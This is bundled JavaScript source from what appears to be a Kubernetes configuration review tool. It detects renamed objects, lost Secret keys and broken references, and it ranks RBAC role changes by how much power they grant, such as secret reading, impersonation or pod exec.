var identityOf = (document) => [kindOf(document), namespaceOf(document), nameOf2(document) ?? ""].join("/");
var identityUnset = (document) => [kindOf(document), namespaceOf(document), defaultOf(nameOf2(document) ?? "") ?? ""].join("/");
function namesOf3(documents2) {
  return new Set(
    documents2.flatMap((document) => {
      const [namespace2, name] = [namespaceOf(document), nameOf2(document) ?? ""];
      const made = MAKERS.get(kindOf(document));
      const generated = ["ConfigMap", "Secret"].flatMap(
        (kind) => itemsAt(document.root, `${kind.charAt(0).toLowerCase()}${kind.slice(1)}Generator`).map(
          (each) => `${kind}/${namespace2}/${textAt(each, "name") ?? ""}`
        )
      );
      return [
        identityOf(document),
        identityUnset(document),
        ...made === void 0 ? [] : [`${made}/${namespace2}/${name}`],
        ...generated
      ];
    })
  );
}
var refersTo = (use2, user2, document) => use2.kind === kindOf(document) && document !== void 0 && use2.name === nameOf2(document) && (user2.after === void 0 || namespaceOf(user2.after) === namespaceOf(document));
function lostObjects(user2, lost) {
  const uses = lost.length === 0 ? [] : namesIn2(user2.after);
  return lost.flatMap(({ before: before3 }) => {
    const use2 = uses.find((each) => refersTo(each, user2, before3));
    return use2 === void 0 ? [] : [
      brokenReference(user2, use2.kind === "Service" ? "backend" : "object", `${use2.kind}/${use2.name}`, {
        after: use2.node
      })
    ];
  });
}
function keysLost({ before: before3, after }) {
  if (before3 === void 0 || after === void 0 || !HOLDS_KEYS.has(kindOf(after))) return [];
  const still = keysOf(after);
  return [...keysOf(before3)].filter((key3) => !still.has(key3));
}
function lostKeys(user2, thinned) {
  const uses = thinned.length === 0 ? [] : namesIn2(user2.after);
  return thinned.flatMap(({ pair, keys }) => {
    const [first, ...more2] = uses.filter(
      (use2) => use2.key !== void 0 && keys.includes(use2.key) && refersTo(use2, user2, pair.after)
    );
    if (first === void 0) return [];
    const others = new Set(more2.map(({ key: key3 }) => key3).filter((key3) => key3 !== first.key)).size;
    const object2 = `${first.kind}/${first.name}`;
    const read3 = `${first.key ?? ""}${others === 0 ? "" : ` and ${others} more`}`;
    const fact4 = brokenReference(user2, isEmptied(pair) ? "emptied" : "key", `${read3} of ${object2}`, {
      after: first.node
    });
    return [{ ...fact4, group: `key of ${object2}` }];
  });
}
var isEmptied = ({ after }) => after !== void 0 && kindOf(after) === "Secret" && keysOf(after).size === 0;
var keysOf = ({ root }) => new Set(["data", "stringData", "binaryData"].flatMap((part) => entriesOf(at(root, part)).map(([name]) => name)));

// src/domains/config/kubernetes/renamed-objects.ts
var FLEETING = /* @__PURE__ */ new Set([
  "Job",
  "Pod",
  "TaskRun",
  "PipelineRun",
  "Workflow",
  "ConfigMap",
  "ClusterServiceVersion"
]);
var OWN_FACTS = /^(?:Cluster)?Role(?:Binding)?$|^CustomResourceDefinition$/;
var USED_BY_NAME = /* @__PURE__ */ new Set(["Secret", "ServiceAccount"]);
function renameFacts(pairs) {
  const renamed2 = pairs.flatMap(renameOf);
  const names2 = renamed2.some(mayFollow) ? pairs.map(({ before: before3, after }) => [namedBy(before3), namedBy(after)]) : [];
  return renamed2.flatMap((fact4) => {
    if (!mayFollow(fact4) || !isFollowed(fact4, names2)) return [fact4];
    return fact4.objectKind === "ServiceAccount" ? [] : [{ ...fact4, isFollowed: true }];
  });
}
var mayFollow = ({ what, objectKind }) => what === "name" && USED_BY_NAME.has(objectKind);
var namedBy = (document) => new Set(namesIn2(document).map(({ kind, name }) => `${kind}/${name}`));
function isFollowed({ objectKind, from: from3, to }, names2) {
  const [old, now] = [`${objectKind}/${from3}`, `${objectKind}/${to}`];
  return names2.some(([had, has2]) => had.has(old) && has2.has(now)) && !names2.some(([, has2]) => has2.has(old));
}
function renameOf(pair) {
  const { before: before3, after } = pair;
  if (before3 === void 0 || after === void 0 || FLEETING.has(kindOf(after))) return [];
  if (OWN_FACTS.test(kindOf(after)) || isBuildFile(after)) return [];
  const changes = PARTS.flatMap(({ what: what2, path: path28, of: of2 }) => {
    const [from4, to2] = [of2(before3), of2(after)];
    return from4 === to2 ? [] : [{ what: what2, path: path28, from: from4, to: to2 }];
  });
  const [change] = changes;
  if (change === void 0 || changes.length > 1 || !isStated(change)) return [];
  const { what, path: path27, from: from3, to } = change;
  const sides = { before: at(before3.root, ...path27), after: at(after.root, ...path27) ?? after.root };
  const group4 = `${what}#${from3}->${to}`;
  const where = objectFact(pair, path27, `${from3}->${to}`, sides);
  return [{ kind: "object-renamed", ...where, group: group4, objectKind: kindOf(after), what, from: from3, to }];
}
var isBuildFile = (document) => groupOf(document) === "kustomize.config.k8s.io";
var PARTS = [
  { what: "name", path: ["metadata", "name"], of: (document) => nameOf2(document) ?? "" },
  { what: "namespace", path: ["metadata", "namespace"], of: namespaceOf },
  { what: "kind", path: ["kind"], of: ({ root }) => textAt(root, "kind") ?? "" }
];
var isStated = ({ from: from3, to }) => withoutVersion(from3) !== withoutVersion(to) && from3 !== "" && to !== "" && !`${from3}${to}`.includes("{{") && !/\$[({]/.test(`${from3}${to}`);
var withoutVersion = (name) => name.replace(/v?\d+(?:[.-]\d+)*/g, "");

// src/domains/config/algebra/rbac-homes.ts
var SERVED = [
  ["", "configmaps", "endpoints", "events", "limitranges", "namespaces", "nodes", "persistentvolumeclaims"],
  ["", "persistentvolumes", "pods", "podtemplates", "replicationcontrollers", "resourcequotas", "secrets"],
  ["", "serviceaccounts", "services"],
  ["apps", "controllerrevisions", "daemonsets", "deployments", "replicasets", "statefulsets"],
  ["autoscaling", "horizontalpodautoscalers"],
  ["batch", "cronjobs", "jobs"],
  ["coordination.k8s.io", "leases"],
  ["discovery.k8s.io", "endpointslices"],
  ["events.k8s.io", "events"],
  ["extensions", "daemonsets", "deployments", "ingresses", "networkpolicies", "podsecuritypolicies", "replicasets"],
  ["networking.k8s.io", "ingressclasses", "ingresses", "networkpolicies"],
  ["policy", "poddisruptionbudgets", "podsecuritypolicies"],
  ["rbac.authorization.k8s.io", "clusterrolebindings", "clusterroles", "rolebindings", "roles"],
  ["storage.k8s.io", "csidrivers", "csinodes", "storageclasses", "volumeattachments"]
];
var GROUPS = new Set(SERVED.map(([group4]) => group4));
var HOMES = new Map(
  SERVED.flatMap(([, ...resources]) => resources).map((resource3) => [
    resource3,
    SERVED.filter(([, ...served2]) => served2.includes(resource3)).map(([group4]) => group4)
  ])
);
var homesOf = (resource3) => HOMES.get(resource3.replace(/\/.*$/, ""));
function isServed2(group4, resource3) {
  const homes = homesOf(resource3);
  return homes === void 0 || !GROUPS.has(group4) || homes.includes(group4);
}
var isOfDefinition = (group4) => group4.includes(".") && (!group4.endsWith(".k8s.io") || /(?:^|\.)gateway\.networking\.k8s\.io$/.test(group4));
var sameObjects = (group4, resource3) => [
  group4,
  ...homesOf(resource3)?.includes(group4) === true ? (homesOf(resource3) ?? []).filter((home) => home !== group4) : []
];

// src/domains/config/algebra/rbac-powers.ts
var READ = ["get", "list", "watch"];
var CHANGE = ["create", "update", "patch"];
var DELETE = ["delete", "deletecollection"];
var WRITE = [...CHANGE, ...DELETE];
var WORKLOADS = ["deployments", "daemonsets", "statefulsets", "replicasets"];
var CERTIFICATES2 = "certificates.k8s.io";
var ADMISSION = [
  "validatingwebhookconfigurations",
  "mutatingwebhookconfigurations",
  "validatingadmissionpolicies",
  "validatingadmissionpolicybindings"
];
var ask = (group4, resources, verbs) => ({
  group: group4,
  resources,
  verbs
});
var core = (resources, verbs) => ask("", resources, verbs);
var rbac = (resources, verbs) => ask("rbac.authorization.k8s.io", resources, verbs);
var covers3 = (...requests2) => (grant) => !grant.url && requests2.some(
  ({ group: group4, resources, verbs }) => holds3(grant.group, [group4]) && holds3(grant.verb, verbs) && resources.some((asked4) => reaches(grant.resource, asked4))
);
var holds3 = (granted2, asked4) => granted2 === "*" || asked4.includes(granted2);
var reaches = (granted2, asked4) => granted2 === "*" || granted2 === asked4 || granted2.startsWith("*/") && asked4.endsWith(granted2.slice(1)) || asked4.endsWith("/*") && granted2.startsWith(asked4.slice(0, -1));
var isSignal = covers3(
  core(["events"], CHANGE),
  ask("events.k8s.io", ["events"], CHANGE),
  ask("coordination.k8s.io", ["leases"], CHANGE),
  ask("authentication.k8s.io", ["tokenreviews"], CHANGE),
  ask("authorization.k8s.io", ["subjectaccessreviews", "localsubjectaccessreviews"], CHANGE)
);
var POWERS = [
  { power: "everything", has: ({ group: group4, resource: resource3, verb }) => [group4, resource3, verb].every((part) => part === "*") },
  { power: "escalate-roles", has: covers3(rbac(["roles", "clusterroles"], ["escalate", "bind"])) },
  {
    power: "impersonate",
    has: covers3(
      core(["users", "groups", "serviceaccounts"], ["impersonate"]),
      ask("authentication.k8s.io", ["uids", "userextras", "userextras/*"], ["impersonate"])
    )
  },
  { power: "read-everything", has: covers3(core(["*"], READ)) },
  { power: "proxy-nodes", has: covers3(core(["nodes/proxy"], ["get", "create"])) },
  {
    power: "approve-certificates",
    has: covers3(
      ask(CERTIFICATES2, ["certificatesigningrequests/approval"], ["update", "patch"]),
      ask(CERTIFICATES2, ["signers"], ["approve", "sign"])
    )
  },
  { power: "read-secrets", has: covers3(core(["secrets"], READ)) },
  { power: "write-secrets", has: covers3(core(["secrets"], WRITE)) },
  {
    power: "write-roles",
    has: covers3(rbac(["roles", "clusterroles", "rolebindings", "clusterrolebindings"], CHANGE))
  },
  { power: "create-tokens", has: covers3(core(["serviceaccounts/token"], ["create"])) },
  {
    power: "enter-pods",
    has: covers3(
      core(["pods/exec", "pods/attach", "pods/portforward"], ["create", "get"]),
      core(["pods/ephemeralcontainers"], ["update", "patch"])
    )
  },
  { power: "proxy-pods", has: covers3(core(["pods/proxy", "services/proxy"], ["get", "create"])) },
  {
    power: "run-pods",
    has: covers3(
      core(["pods", "replicationcontrollers"], ["create"]),
      ask("apps", WORKLOADS, CHANGE),
      ask("batch", ["jobs", "cronjobs"], CHANGE),
      ask("argoproj.io", ["workflows", "cronworkflows", "rollouts"], CHANGE)
    )
  },
  { power: "write-admission", has: covers3(ask("admissionregistration.k8s.io", ADMISSION, WRITE)) },
  {
    power: "write-apis",
    has: covers3(
      ask("apiextensions.k8s.io", ["customresourcedefinitions"], WRITE),
      ask("apiregistration.k8s.io", ["apiservices"], WRITE)
    )
  },
  {
    power: "write-volumes",
    has: covers3(
      core(["persistentvolumes"], ["create"]),
      ask("storage.k8s.io", ["csidrivers", "storageclasses"], CHANGE)
    )
  },
  { power: "write-nodes", has: covers3(core(["nodes", "nodes/status"], ["update", "patch"])) },
  {
    power: "wildcard",
    has: ({ url: url2, ...grant }) => !url2 && [grant.group, grant.resource, grant.verb].some((part) => part.startsWith("*"))
  },
  {
    power: "reroute",
    has: covers3(
      core(["services/status", "endpoints"], CHANGE),
      ask("discovery.k8s.io", ["endpointslices"], CHANGE),
      core(["namespaces"], ["update", "patch"])
    )
  },
  { power: "url", has: ({ url: url2 }) => url2 },
  { power: "delete", has: ({ verb }) => verb === "*" || DELETE.includes(verb) },
  { power: "write", has: (grant) => !READ.includes(grant.verb) && !isSignal(grant) },
  { power: "read", has: ({ verb }) => READ.includes(verb) },
  { power: "signal", has: () => true }
];
var rankOf3 = (grant) => POWERS.findIndex(({ has: has2 }) => has2(grant));
var powerOf2 = (grant) => POWERS[rankOf3(grant)]?.power ?? "signal";
function strongest(grants4, steps2 = () => 0) {
  const ranked = grants4.map((grant) => ({
    grant,
    rank: 2 * (steps2(grant) * POWERS.length + rankOf3(grant)) + Number(grant.name !== "*")
  }));
  return ranked.reduce(
    (best, next) => best === void 0 || next.rank < best.rank ? next : best,
    void 0
  )?.grant;
}
var CLUSTER_SCOPED = /* @__PURE__ */ new Set([
  "groups",
  "namespaces",
  "nodes",
  "persistentvolumes",
  "users",
  ...["clusterroles", "clusterrolebindings"].map((name) => `${name}.rbac.authorization.k8s.io`),
  ...[...ADMISSION, "mutatingadmissionpolicies", "mutatingadmissionpolicybindings"].map(
    (name) => `${name}.admissionregistration.k8s.io`
  ),
  ...["certificatesigningrequests", "signers", "clustertrustbundles"].map((name) => `${name}.${CERTIFICATES2}`),
  ...["storageclasses", "csidrivers", "csinodes", "volumeattachments"].map((name) => `${name}.storage.k8s.io`),
  ...["flowschemas", "prioritylevelconfigurations"].map((name) => `${name}.flowcontrol.apiserver.k8s.io`),
  ...["tokenreviews", "selfsubjectreviews", "uids", "userextras"].map((name) => `${name}.authentication.k8s.io`),
  ...["subjectaccessreviews", "selfsubjectaccessreviews", "selfsubjectrulesreviews"].map(
    (name) => `${name}.authorization.k8s.io`
  ),
  "apiservices.apiregistration.k8s.io",
  "customresourcedefinitions.apiextensions.k8s.io",
  "gatewayclasses.gateway.networking.k8s.io",
  "ingressclasses.networking.k8s.io",
  "podsecuritypolicies.policy",
  "priorityclasses.scheduling.k8s.io",
  "runtimeclasses.node.k8s.io"
]);
function isClusterScoped(group4, resource3) {
  const [name = ""] = resource3.split("/");
  return CLUSTER_SCOPED.has(group4 === "" ? name : `${name}.${group4}`);
}

// src/domains/config/algebra/rbac-mitigations.ts
var SAME_FOR_ANY = /* @__PURE__ */ new Set(["run-pods", "enter-pods", "write-admission"]);
var PLAIN = /* @__PURE__ */ new Set(["wildcard", "delete", "write", "read"]);
var READS = /* @__PURE__ */ new Set(["get", "list", "watch"]);
var CHANGES = /* @__PURE__ */ new Set(["create", "update", "patch"]);
var DELETES = /* @__PURE__ */ new Set(["delete", "deletecollection"]);
var PART2 = /^([^/*]+)\/(?:status|finalizers|scale)$/;
var SCALING = /* @__PURE__ */ new Set([
  "horizontalpodautoscalers.autoscaling",
  "leases.coordination.k8s.io",
  "poddisruptionbudgets.policy"
]);
var WHEREABOUTS = /* @__PURE__ */ new Set([
  "referencegrants.gateway.networking.k8s.io",
  "admissionregistration.k8s.io",
  "coordination.k8s.io",
  "discovery.k8s.io",
  "events.k8s.io",
  "gateway.networking.k8s.io",
  "networking.k8s.io",
  "resource.k8s.io",
  "scheduling.k8s.io",
  "storage.k8s.io",
  ...["endpoints", "events", "namespaces", "nodes", "services"].map((name) => `${name}.`),
  "horizontalpodautoscalers.autoscaling",
  "ingresses.extensions",
  "poddisruptionbudgets.policy"
]);
var HEALTH = /^\/(?:healthz|livez|readyz|version)(?:\/|$)/;
var OF_CLUSTER = /(?:^|\.)(?:k8s|openshift)\.io$/;
var isCustom = (group4) => group4.includes(".") && !group4.includes("*") && !OF_CLUSTER.test(group4);
var OF_MANY = /^(?:coreos\.com|google\.com|github\.io|x-k8s\.io|(?:ac|co|com|gov|net|org)\.[a-z]{2})$/;
function makerOf2(group4) {
  const labels = group4.split(".");
  const domain = labels.slice(-2).join(".");
  return OF_MANY.test(domain) ? labels.slice(-3).join(".") : domain;
}
function mitigations(base, defined) {
  const held2 = heldBy(base.filter(({ url: url2, name }) => !url2 && name === "*"));
  const urls = base.filter(({ url: url2 }) => url2);
  return (grant) => {
    const power = powerOf2(grant);
    if (grant.url) return ofUrl(grant, urls);
    if (isHeld(grant, power, held2)) return "held";
    if (!PLAIN.has(power) || grant.group === "*") return void 0;
    if (grant.resource.includes("*")) return ofWhole(grant, held2);
    if (isPartOfHeld(grant, held2)) return "part";
    return isOwn(grant, held2, defined) ? "own-group" : byObject(grant, power, held2);
  };
}
function ofUrl({ resource: resource3, verb }, held2) {
  if (HEALTH.test(resource3)) return "health";
  const wider = held2.filter((other) => other.verb === verb || other.verb === "*");
  return wider.some((other) => isBelow3(resource3, other.resource)) ? "held" : void 0;
}
var isBelow3 = (url2, above) => /^\/[^/*]/.test(above) && url2.startsWith(`${above.replace(/\/\*?$/, "")}/`);
var isNote = ({ group: group4, resource: resource3, verb }) => CHANGES.has(verb) && isOfDefinition(group4) && /^[^/*]+\/(?:status|finalizers)$/.test(resource3);
var isWhereabouts = ({ group: group4, resource: resource3 }) => WHEREABOUTS.has(group4) || WHEREABOUTS.has(`${resource3.replace(/\/status$/, "")}.${group4}`);
function heldBy(grants4) {
  const ofMakers = grants4.filter(({ group: group4 }) => isCustom(group4));
  return {
    grants: new Set(grants4.map(keyOf2)),
    powers: new Set(grants4.map(powerOf2)),
    allVerbs: new Set(grants4.filter(({ verb }) => verb === "*").map(({ group: group4 }) => group4)),
    verbs: verbsByMaker(ofMakers),
    verbsOnAll: verbsByMaker(ofMakers.filter(({ resource: resource3 }) => resource3 === "*"))
  };
}
var verbsByMaker = (grants4) => new Map(
  [...gather(grants4, ({ group: group4 }) => makerOf2(group4))].map(([maker, some]) => [
    maker,
    new Set(some.map(({ verb }) => verb))
  ])
);
function isHeld(grant, power, { powers }) {
  if (grant.resource.includes("*") || grant.group === "*") return false;
  if (SAME_FOR_ANY.has(power)) return powers.has(power);
  const made = power === "read" ? ["create", "patch"].map((verb) => powerOf2({ ...grant, verb })) : [];
  return made.some((other) => SAME_FOR_ANY.has(other) && powers.has(other));
}
var keyOf2 = ({ verb, resource: resource3, group: group4 }) => `${verb} ${resource3}.${group4}`;
function isPartOfHeld({ verb, resource: resource3, group: group4 }, { grants: grants4 }) {
  const [, parent] = PART2.exec(resource3) ?? [];
  if (parent === void 0) return false;
  const verbs = READS.has(verb) ? READS : CHANGES;
  return [...verbs, "*"].some(
    (each) => [parent, "*"].some((wide) => grants4.has(keyOf2({ verb: each, resource: wide, group: group4 })))
  );
}
function isOwn({ group: group4, verb }, held2, defined) {
  return isCustom(group4) && (defined.has(group4) || isAsStrong(held2.verbs.get(makerOf2(group4)), verb));
}
var isOwnWhole = ({ group: group4, resource: resource3, verb }, { verbsOnAll }) => resource3 === "*" && isCustom(group4) && isAsStrong(verbsOnAll.get(makerOf2(group4)), verb);
function ofWhole(grant, held2) {
  if (isOwnWhole(grant, held2)) return "own-group";
  return grant.resource === "*" && isCustom(grant.group) && READS.has(grant.verb) ? "custom-reads" : void 0;
}
function isAsStrong(held2, verb) {
  if (held2 === void 0) return false;
  if (held2.has("*") || held2.has(verb)) return true;
  const stronger = [...READS.has(verb) ? CHANGES : [], ...READS.has(verb) || CHANGES.has(verb) ? DELETES : []];
  return DELETES.has(verb) ? [...DELETES].some((each) => held2.has(each)) : stronger.some((each) => held2.has(each));
}
function byObject(grant, power, { allVerbs }) {
  const object2 = `${grant.resource}.${grant.group}`;
  if (power === "wildcard") return allVerbs.has(grant.group) ? "all-verbs" : void 0;
  if (isNote(grant)) return "notes";
  if (power === "read") return isWhereabouts(grant) ? "whereabouts" : void 0;
  return SCALING.has(object2) ? "scaling" : void 0;
}

// src/domains/config/algebra/rbac.ts
var MOST_GRANTS = 5e4;
var LONGEST_URL = 256;
function widened2(base, head) {
  const known2 = new Set(base.map(spelling2));
  const fresh = head.filter((rule) => !known2.has(spelling2(rule)));
  if (size(base) > MOST_GRANTS || size(fresh) > MOST_GRANTS) return fresh.flatMap(broadest);
  const covered2 = new Set(base.flatMap(grants).map(keyOf3));
  const seen = /* @__PURE__ */ new Set();
  return fresh.flatMap(grants).filter((grant) => {
    const key3 = keyOf3(grant);
    if (seen.has(key3) || seenBy(grant).some((same) => coveringKeys(same).some((wider) => covered2.has(wider))))
      return false;
    seen.add(key3);
    return true;
  });
}
var seenBy = (grant) => [
  grant,
  ...READS2.has(grant.verb) && !grant.url && !grant.resource.includes("/") ? ["list", "watch"].map((verb) => ({ ...grant, verb })) : []
];
var READS2 = /* @__PURE__ */ new Set(["get", "list", "watch"]);
var grantsOf2 = (rules4) => size(rules4) > MOST_GRANTS ? [] : rules4.flatMap(grants);
var asRule = ({ verb, group: group4, resource: resource3, name, url: url2, line }) => ({
  apiGroups: url2 ? [] : [group4],
  resources: url2 ? [] : [resource3],
  resourceNames: name === "*" ? [] : [name],
  verbs: [verb],
  nonResourceURLs: url2 ? [resource3] : [],
  line
});
function grants({ apiGroups, resources, resourceNames, verbs, nonResourceURLs, line }) {
  const names2 = resourceNames.length === 0 ? ["*"] : resourceNames;
  const targets = [
    ...nonResourceURLs.map((url2) => ({ group: "", resource: url2, name: "*", url: true })),
    ...apiGroups.flatMap(
      (group4) => resources.flatMap((resource3) => names2.map((name) => ({ group: group4, resource: resource3, name, url: false })))
    )
  ];
  return verbs.flatMap((verb) => targets.map((target) => ({ verb, ...target, line }))).filter(isEffective2);
}
var isEffective2 = ({ verb, group: group4, resource: resource3, name, url: url2 }) => (name === "*" || resource3.includes("/") || verb !== "create" && verb !== "deletecollection") && (url2 || isServed2(group4, resource3));
var size = (rules4) => rules4.reduce(
  (sum2, rule) => sum2 + rule.verbs.length * (rule.apiGroups.length * rule.resources.length * Math.max(1, rule.resourceNames.length) + rule.nonResourceURLs.length),
  0
);
var spelling2 = (rule) => JSON.stringify(
  [rule.apiGroups, rule.resources, rule.resourceNames, rule.verbs, rule.nonResourceURLs].map(
    (list) => list.toSorted()
  )
);
var broadest = (rule) => grants({
  ...rule,
  apiGroups: rule.apiGroups.slice(0, 1),
  resources: rule.resources.slice(0, 1),
  resourceNames: rule.resourceNames.slice(0, 1),
  nonResourceURLs: rule.nonResourceURLs.slice(0, 1),
  verbs: rule.verbs.slice(0, 100)
});
var keyOf3 = ({ url: url2, group: group4, resource: resource3, name, verb }) => JSON.stringify([url2, group4, resource3, name, verb]);
function coveringKeys({ verb, group: group4, resource: resource3, name, url: url2 }) {
  const patterns = url2 ? urlPatterns(resource3) : resourcePatterns(resource3);
  const groups2 = url2 ? [group4] : [...sameObjects(group4, resource3), ...group4 === "*" ? [] : ["*"]];
  return withAny(verb).flatMap(
    (anyVerb) => groups2.flatMap(
      (anyGroup) => patterns.flatMap(
        (pattern) => withAny(name).map(
          (anyName) => keyOf3({ url: url2, group: anyGroup, resource: pattern, name: anyName, verb: anyVerb })
        )
      )
    )
  );
}
var withAny = (part) => part === "*" ? [part] : [part, "*"];
function resourcePatterns(resource3) {
  const slash = resource3.indexOf("/");
  if (slash < 0) return [resource3, "*"];
  return [resource3, `*${resource3.slice(slash)}`, "*", ...OF_KUBELET.test(resource3) ? ["nodes/proxy"] : []];
}
var OF_KUBELET = /^nodes\/(?:checkpoint|configz|healthz|log|metrics|pods|spec|stats)$/;
function urlPatterns(url2) {
  const stem = url2.slice(0, LONGEST_URL).replace(/\*$/, "");
  return [url2, ...Array.from({ length: stem.length + 1 }, (_, end) => `${stem.slice(0, end)}*`)];
}

// src/domains/config/kubernetes/roles.ts
var AGGREGATION = "rbac.authorization.k8s.io/aggregate-to-";
var isRole = ({ before: before3, after }) => ROLE.test(kindOf(after ?? before3));
var ROLE = /^(?:Cluster)?Role$|\{\{.*\bClusterRole\b.*\}\}/;
function rolesFacts(pairs) {
  const roles = pairs.filter(isRole);
  const defined = new Set(roles.length === 0 ? [] : pairs.flatMap(({ after }) => groupDefinedBy(after) ?? []));
  const given2 = roles.some(({ before: before3 }) => before3 === void 0) ? roles.flatMap(givenUp) : [];
  return roles.flatMap((pair) => roleFacts(pair, defined, given2));
}
function givenUp({ before: before3, after }) {
  const lost = before3 === void 0 ? [] : widened2(policyRules(after), policyRules(before3));
  return lost.length === 0 ? [] : [{ rules: lost.map(asRule), kind: kindOf(before3) }];
}
function isTakenOver({ before: before3, after }, given2) {
  if (before3 !== void 0 || given2.length === 0) return false;
  const known2 = given2.filter(({ kind }) => kind === "ClusterRole" || kind === kindOf(after));
  return widened2(
    known2.flatMap(({ rules: rules4 }) => rules4),
    policyRules(after)
  ).length === 0;
}
var groupDefinedBy = (document) => kindOf(document) === "CustomResourceDefinition" ? textAt(document?.root, "spec", "group") : void 0;
function roleFacts(pair, defined, given2) {
  const { before: before3, after } = pair;
  if (after === void 0) return [];
  const [base, head] = [policyRules(before3), policyRules(after)];
  const known2 = reachesFurther(before3, after) ? [] : base;
  const gained = widened2(known2, head);
  const mitigationOf = mitigations(grantsOf2(known2), defined);
  const worst = strongest(gained, (grant) => stepsOf2(mitigationOf(grant), grant));
  if (worst !== void 0) {
    const takenOver = isTakenOver(pair, given2) ? { isTakenOver: true } : {};
    return [{ ...widening3(pair, after, worst, gained.length), ...mitigated(mitigationOf(worst)), ...takenOver }];
  }
  const lost = before3 === void 0 ? [] : widened2(head, base);
  return lost.length === 0 ? [] : [narrowing2(pair, after, lost.length)];
}
var stepsOf2 = (mitigation, grant) => {
  if (mitigation === "part" || powerOf2(grant) === "signal") return 2;
  return mitigation === void 0 || mitigation === "all-verbs" ? 0 : 1;
};
function narrowing2(pair, after, lost) {
  const sides = { before: at(pair.before?.root, "rules"), after: at(after.root, "rules") ?? after.root };
  return {
    kind: "role-narrowed",
    ...objectFact(pair, ["rules"], `${lost} less`, sides),
    role: titleOf(pair),
    lost
  };
}
var mitigated = (mitigation) => mitigation === void 0 ? {} : { mitigation };
function widening3(pair, after, worst, gained) {
  const { verb, group: apiGroup, resource: resource3, name } = worst;
  const asked4 = `${verb} ${apiGroup === "" ? resource3 : `${resource3}.${apiGroup}`}`;
  const rule = itemsAt(after.root, "rules").find(({ line }) => line === worst.line);
  const to = aggregatedTo(after);
  const isNew = pair.before === void 0;
  const sides = { before: at(pair.before?.root, "rules"), after: rule ?? after.root };
  return {
    kind: "role-widened",
    ...objectFact(pair, ["rules"], asked4, sides),
    // The same grants in several roles of a change come from one of them, or from what all are made of.
    group: `${isNew ? "new role" : "role"}#${asked4}${name === "*" ? "" : ` ${name}`}`,
    role: titleOf(pair),
    verb,
    apiGroup,
    resource: resource3,
    power: powerOf2(worst),
    ...reachesOf(pair.before, after),
    isNew,
    gained,
    ...name === "*" ? {} : { object: name },
    ...namespaceOf(after) === "" ? {} : { namespace: namespaceOf(after) },
    ...to === void 0 ? {} : { aggregatedTo: to }
  };
}
var reachesOf = (before3, after) => ({
  clusterWide: /\bClusterRole\b/.test(kindOf(after)),
  ...kindOf(before3) === "ClusterRole" && kindOf(after) === "Role" ? { isNarrower: true } : {}
});
var reachesFurther = (before3, after) => kindOf(before3) === "Role" && kindOf(after) === "ClusterRole" || before3 !== void 0 && aggregatedTo(before3) === void 0 && aggregatedTo(after) !== void 0;
function aggregatedTo({ root }) {
  const labels = entriesOf(at(root, "metadata", "labels"));
  const label2 = labels.find(
    ([name, value]) => name.startsWith(AGGREGATION) && !name.includes("{{") && switchOf(value) === true
  );
  return label2?.[0].slice(AGGREGATION.length);
}
var policyRules = (document) => itemsAt(document?.root, "rules").map((rule) => ({
  apiGroups: literals(rule, "apiGroups"),
  resources: literals(rule, "resources"),
  resourceNames: textsOf(at(rule, "resourceNames")),
  verbs: literals(rule, "verbs"),
  nonResourceURLs: literals(rule, "nonResourceURLs"),
  line: rule.line
}));
var literals = (rule, key3) => textsOf(at(rule, key3)).filter((text) => !text.includes("{{"));

// src/domains/config/compose.ts
var import_yaml3 = __toESM(require_dist(), 1);

// src/domains/config/limits.ts
var LIMITS = { characters: 5e6, documents: 2e4, depth: 200, nodes: 2e5 };
function checkLimits(tokens3, lineAt) {
  const waiting = tokens3.map((token) => [token, 0]);
  let documents2 = 0;
  let nodes = 0;
  for (let next = waiting.pop(); next !== void 0; next = waiting.pop()) {
    const [token, depth] = next;
    if (!token) continue;
    if (token.type === "document" && ++documents2 > LIMITS.documents) refuse("it holds more than 20,000 documents");
    if (++nodes > LIMITS.nodes) refuse("it holds more than 200,000 values");
    if (depth > LIMITS.depth) refuse("it is nested more than 200 deep", lineAt(token.offset));
    for (const child of childrenOf(token)) waiting.push([child, depth + 1]);
  }
}
function refuse(reason, line = 1) {
  throw new Unreadable(reason, line);
}
function childrenOf(token) {
  if (token.type === "document") return [token.value];
  if (!("items" in token)) return [];
  const items = [];
  for (const item of token.items) {
    if (item.key) items.push(item.key);
    if (item.value) items.push(item.value);
  }
  return items;
}

// src/domains/config/outdented.ts
var import_yaml = __toESM(require_dist(), 1);
var MOST = 100;
var MOST_CHARACTERS = 4 * LIMITS.characters;
var GIVEN_UP = "";
function indented(text) {
  let mended = text;
  const most = Math.min(MOST, MOST_CHARACTERS / text.length);
  for (let count3 = 0; count3 <= most; count3++) {
    const opening5 = firstOpen(mended);
    if (opening5 === void 0) return count3 === 0 ? void 0 : mended;
    const end = endOf2(mended, opening5);
    const next = end === void 0 ? void 0 : moved(mended, opening5, end);
    if (next === void 0) return void 0;
    mended = next;
  }
  return void 0;
}
function firstOpen(text) {
  let offset = 0;
  const open = [];
  for (const token of new import_yaml.Lexer().lex(text)) {
    if (token === GIVEN_UP) return open[0];
    if (isBrokenOff(token)) return open[0] ?? offset;
    if (token === "{" || token === "[") open.push(offset);
    if (token === "}" || token === "]") open.pop();
    if (!MARKS.has(token)) offset += token.length;
  }
  return void 0;
}
var MARKS = /* @__PURE__ */ new Set(["", GIVEN_UP, ""]);
var isBrokenOff = (token) => /^(?:"(?:[^"\\]|\\.)*|'(?:[^']|'')*)$/.test(token);
var PIECE = /(?<![^\s,:[{])(?:"(?:[^"\\]|\\[^])*"|'(?:[^']|'')*')|(?<=\s)#[^\n]*|[{[]|[}\]]/g;
function endOf2(text, start) {
  let depth = 0;
  for (const { 0: piece, index } of text.slice(start).matchAll(PIECE)) {
    if (piece === "{" || piece === "[") depth++;
    else if (piece === "}" || piece === "]") depth--;
    if (depth === 0) return start + index + piece.length - 1;
  }
  return void 0;
}
function moved(text, opening5, end) {
  const column = opening5 - (text.lastIndexOf("\n", opening5) + 1);
  const lines = text.slice(opening5, end + 1).split("\n");
  if (text.length + lines.length * (column + 1) > LIMITS.characters) return void 0;
  return text.slice(0, opening5) + lines.join(`
${" ".repeat(column + 1)}`) + text.slice(end + 1);
}

// src/domains/config/plant.ts
var import_yaml2 = __toESM(require_dist(), 1);

// src/domains/config/numbering.ts
function numbering() {
  const counts = /* @__PURE__ */ new Map();
  return (name) => {
    const count3 = (counts.get(name) ?? 0) + 1;
    counts.set(name, count3);
    return count3 === 1 ? name : `${name} (${count3})`;
  };
}

// src/domains/config/growth.ts
var measured = (children2) => ({
  size: children2.reduce((sum2, child) => sum2 + child.size, 1),
